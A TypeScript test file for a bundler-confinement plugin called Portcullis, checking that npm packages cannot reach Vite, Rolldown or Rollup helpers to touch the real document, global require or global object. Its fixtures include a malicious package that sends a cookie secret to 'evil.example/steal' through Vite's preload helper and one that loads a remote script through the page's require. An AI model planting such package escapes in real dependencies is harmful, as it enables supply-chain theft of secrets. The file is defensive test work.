// Row 58 of THREATS.md: packages reach only the bundler helpers the bundler itself injected into them. Vite's preload
// helper writes <link> elements with the real document: a package that imports it by name is refused, and the one
// Vite injects for a package's own dynamic import() is fine.
import vm from 'node:vm';
import { describe, expect, it } from 'vitest';
import { localPackage, makeApp, rollupBuild, viteBuild, type Built } from './test-builds.js';
import { windowLikeContext } from './test-realm.js';

const beacon = (specifier: string) =>
  makeApp({
    'package.json': { name: 'app', dependencies: { pkg: '*' } },
    'main.js': `export { beacon } from 'pkg';`,
    'portcullis.policy.json': { resources: { pkg: {} } },
    ...localPackage('pkg', {
      'index.js': `import { __vitePreload as preload } from ${JSON.stringify(specifier)};
        export const beacon = (secret) => preload(() => Promise.resolve(), ['https://evil.example/steal?' + secret + '.css']);`,
    }),
  });

/** A window whose document records the <link> elements appended to its head. */
async function runWithDocument(code: string): Promise<{ exports: Record<string, unknown>; calls: () => string[] }> {
  const realm = windowLikeContext();
  vm.runInContext(
    `const links = [];
    globalThis.__links = links;
    globalThis.URL = class { constructor(s) { this.href = String(s); this.pathname = this.href; } };
    const element = () => ({ relList: { supports: () => true }, addEventListener(type, fn) { if (type === 'load') Promise.resolve().then(() => fn({ type })); }, removeEventListener() {}, setAttribute() {} });
    globalThis.document = { createElement: element, querySelector: () => null, querySelectorAll: () => [], getElementsByTagName: () => [],
      head: { appendChild: (link) => links.push(link.rel + ' ' + link.href) } };`,
    realm.context,
  );
  const mod = new vm.SourceTextModule(code, { context: realm.context, initializeImportMeta: (meta) => void (meta.url = 'https://app.example/assets/main.js') });
  await mod.link(() => {
    throw new Error('no imports');
  });
  await mod.evaluate();
  return { exports: mod.namespace as Record<string, unknown>, calls: () => [...(realm.context.__links as string[])] };
}

describe('row 58: bundler helpers', () => {
  it('vite build: a package importing \\0vite/preload-helper.js writes <link> elements in a plain build, and is refused', async () => {
    const app = beacon('\0vite/preload-helper.js');
    const plain = await runWithDocument((await viteBuild(app, { portcullis: false })).code);
    void (plain.exports.beacon as (s: string) => Promise<unknown>)('cookie=s3cret');
    expect(plain.calls()).toEqual([expect.stringContaining('https://evil.example/steal?cookie=s3cret.css')]);
    await expect(viteBuild(app)).rejects.toThrow(
      /node_modules\/pkg\/index\.js \(package "pkg"\) imports the bundler helper "\\0vite\/preload-helper\.js", which its own code names \(line 1.*PORTCULLIS_IMPORT_DENIED/s,
    );
  });

  it('vite build: any spelling that resolves to a helper is refused (vite/modulepreload-polyfill)', async () => {
    const app = makeApp({
      'package.json': { name: 'app', dependencies: { pkg: '*' } },
      'main.js': `import 'pkg';`,
      'portcullis.policy.json': { resources: { pkg: {} } },
      ...localPackage('pkg', { 'index.js': `import 'vite/modulepreload-polyfill';` }),
    });
    await expect(viteBuild(app)).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) imports the (virtual module|bundler helper) "(\\0)?vite\/modulepreload-polyfill.*PORTCULLIS_IMPORT_DENIED/s);
  });

  it('vite build: the preload helper Vite injects for a package\'s own import() is allowed', async () => {
    const app = makeApp({
      'package.json': { name: 'app', dependencies: { pkg: '*' } },
      'main.js': `export { lazy } from 'pkg';`,
      'portcullis.policy.json': { resources: { pkg: {} } },
      ...localPackage('pkg', { 'index.js': `export const lazy = () => import('./lazy.js');`, 'lazy.js': `export const z = 1;` }),
    });
    const built = await viteBuild(app);
    expect(built.code).toMatch(/__vitePreload\(\(\) => import\(/);
  });

  it('Rollup 4: a virtual module another plugin serves is refused to packages', async () => {
    const app = beacon('\0real-document-helper');
    const helper = {
      name: 'helper',
      resolveId: (id: string) => (id === '\0real-document-helper' ? id : null),
      load: (id: string) => (id === '\0real-document-helper' ? `export const __vitePreload = (f, deps) => { deps.forEach((d) => fetch(d)); return f(); };` : null),
    };
    const plain = await rollupBuild(app, { portcullis: false, before: [helper] });
    expect(plain.code).toContain('fetch(d)');
    await expect(rollupBuild(app, { before: [helper] })).rejects.toThrow(/imports the virtual module "\\0real-document-helper", which is not a package.*PORTCULLIS_IMPORT_DENIED/s);
  });

  it("vite build: Rolldown's require() helper reaches the page's global require (an AMD loader) in a plain build; confined, the package reads its compartment's, and the helper left by a later plugin is refused", async () => {
    const app = makeApp({
      'package.json': { name: 'app', dependencies: { pkg: '*' } },
      'main.js': `export { load } from 'pkg';`,
      'portcullis.policy.json': { resources: { pkg: {} } },
      ...localPackage('pkg', { 'index.js': `exports.load = (name) => require(name);` }, { type: 'commonjs' }),
    });
    const realm = windowLikeContext();
    vm.runInContext(`globalThis.require = (name) => 'the page loader loaded ' + name;`, realm.context);
    const mod = new vm.SourceTextModule((await viteBuild(app, { portcullis: false })).code, { context: realm.context });
    await mod.link(() => {
      throw new Error('no imports');
    });
    await mod.evaluate();
    expect((mod.namespace as { load: (n: string) => string }).load('https://evil.example/x.js')).toBe('the page loader loaded https://evil.example/x.js');
    // Confined: the computed require is the compartment's: this page has one, not granted (a violation that names it).
    const confined = await viteBuild(app);
    const inside = windowLikeContext();
    vm.runInContext(`globalThis.require = (name) => 'the page loader loaded ' + name;`, inside.context);
    vm.runInContext(confined.runtime!, inside.context);
    const pkg = new vm.SourceTextModule(confined.code, { context: inside.context });
    await pkg.link(() => {
      throw new Error('no imports');
    });
    await pkg.evaluate();
    expect(() => (pkg.namespace as { load: (n: string) => string }).load('https://evil.example/x.js')).toThrow(/package "pkg" may not use require/);
    // A plugin after Portcullis that adds one: the bundler's helper in the package's output is refused.
    const later = { name: 'later', enforce: 'post' as const, transform: (code: string, id: string) => (id.includes('/pkg/') ? `${code}\nexports.load = (n) => require(n);` : null) };
    await expect(viteBuild(app, { after: [later] })).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) reaches the bundler's require\(\), which falls back to the page's global require.*PORTCULLIS_UNCONFINED_CODE/s);
  });

  it("vite build: a package naming Rolldown's runtime reaches the page's require through __require plainly; refused, whatever it takes from it", async () => {
    for (const [imported, use] of [['__require as r', 'r(n)'], ['__share_require as r', 'r(n)'], ['__toESM as r', 'r(n)']]) {
      const app = makeApp({
        'package.json': { name: 'app', dependencies: { pkg: '*' } },
        'main.js': `export { load } from 'pkg';`,
        'portcullis.policy.json': { resources: { pkg: {} } },
        ...localPackage('pkg', { 'index.js': `import { ${imported} } from '\\0rolldown/runtime.js'; export const load = (n) => ${use};` }),
      });
      if (imported.startsWith('__require')) {
        const realm = windowLikeContext();
        vm.runInContext(`globalThis.require = (name) => 'the page loader loaded ' + name;`, realm.context);
        const load = (await runChunks(await viteBuild(app, { portcullis: false }), realm.context)).load as (n: string) => string;
        expect(load('x')).toBe('the page loader loaded x');
      }
      await expect(viteBuild(app)).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) imports the bundler helper "\\0rolldown\/runtime\.js", which its own code names.*PORTCULLIS_IMPORT_DENIED/s);
    }
  });

  // Rollup's commonjs plugin imports commonjsGlobal (the real global object) into the modules it converts; Portcullis
  // rewrites those imports. A package that hands the binding on, or loads the helpers itself, must not get it.
  const helperApp = (files: Record<string, string>) =>
    makeApp({
      'package.json': { name: 'app', dependencies: { pkg: '*' } },
      'main.js': `export { run } from 'pkg';`,
      'portcullis.policy.json': { resources: { pkg: {} } },
      ...localPackage('pkg', files),
    });
  it.each([
    ['re-exports commonjsGlobal', { 'index.js': `import { g } from './h.js'; export const run = () => g;`, 'h.js': `export { commonjsGlobal as g } from '\\0commonjsHelpers.js';` }, /node_modules\/pkg\/h\.js:1:1: re-exports the commonjs helpers/],
    ['re-exports the helpers whole', { 'index.js': `import * as h from './h.js'; export const run = () => h.commonjsGlobal;`, 'h.js': `export * from '\\0commonjsHelpers.js';` }, /node_modules\/pkg\/h\.js:1:1: re-exports the commonjs helpers/],
    ['imports the helpers with import()', { 'index.js': `export const run = () => import('\\0commonjsHelpers.js').then((m) => m.commonjsGlobal);` }, /node_modules\/pkg\/index\.js \(package "pkg"\) imports the bundler helper "\\0commonjsHelpers\.js" with import\(\)/],
  ] as const)('Rollup 4: a package that %s reaches the real global in a plain build, and is refused', async (_name, files, refused) => {
    const app = helperApp(files);
    const realm = windowLikeContext();
    const run = (await runChunks(await rollupBuild(app, { portcullis: false }), realm.context)).run as () => unknown;
    expect(await run()).toBe(vm.runInContext('globalThis', realm.context));
    await expect(rollupBuild(app)).rejects.toThrow(new RegExp(`${refused.source}.*PORTCULLIS_IMPORT_DENIED`, 's'));
  });
});

/** Runs a build's entry chunk, linking the other chunks it imports (`./x.js`) from the same build. */
async function runChunks(built: Built, context: vm.Context): Promise<Record<string, unknown>> {
  const modules = new Map<string, vm.SourceTextModule>();
  const load = (file: string): vm.SourceTextModule => {
    let mod = modules.get(file);
    if (!mod) {
      mod = new vm.SourceTextModule(built.files[file]!, {
        context,
        identifier: file,
        // @ts-expect-error -- Node's dynamic import hook for vm modules (--experimental-vm-modules)
        importModuleDynamically: async (specifier: string) => {
          const target = load(specifier.replace(/^\.\//, ''));
          await target.link(link);
          await target.evaluate();
          return target;
        },
      });
      modules.set(file, mod);
    }
    return mod;
  };
  const link = (specifier: string) => load(specifier.replace(/^\.\//, ''));
  const entry = Object.keys(built.files).find((f) => built.files[f] === built.code)!;
  const mod = load(entry);
  await mod.link(link);
  await mod.evaluate();
  return mod.namespace as Record<string, unknown>;
}
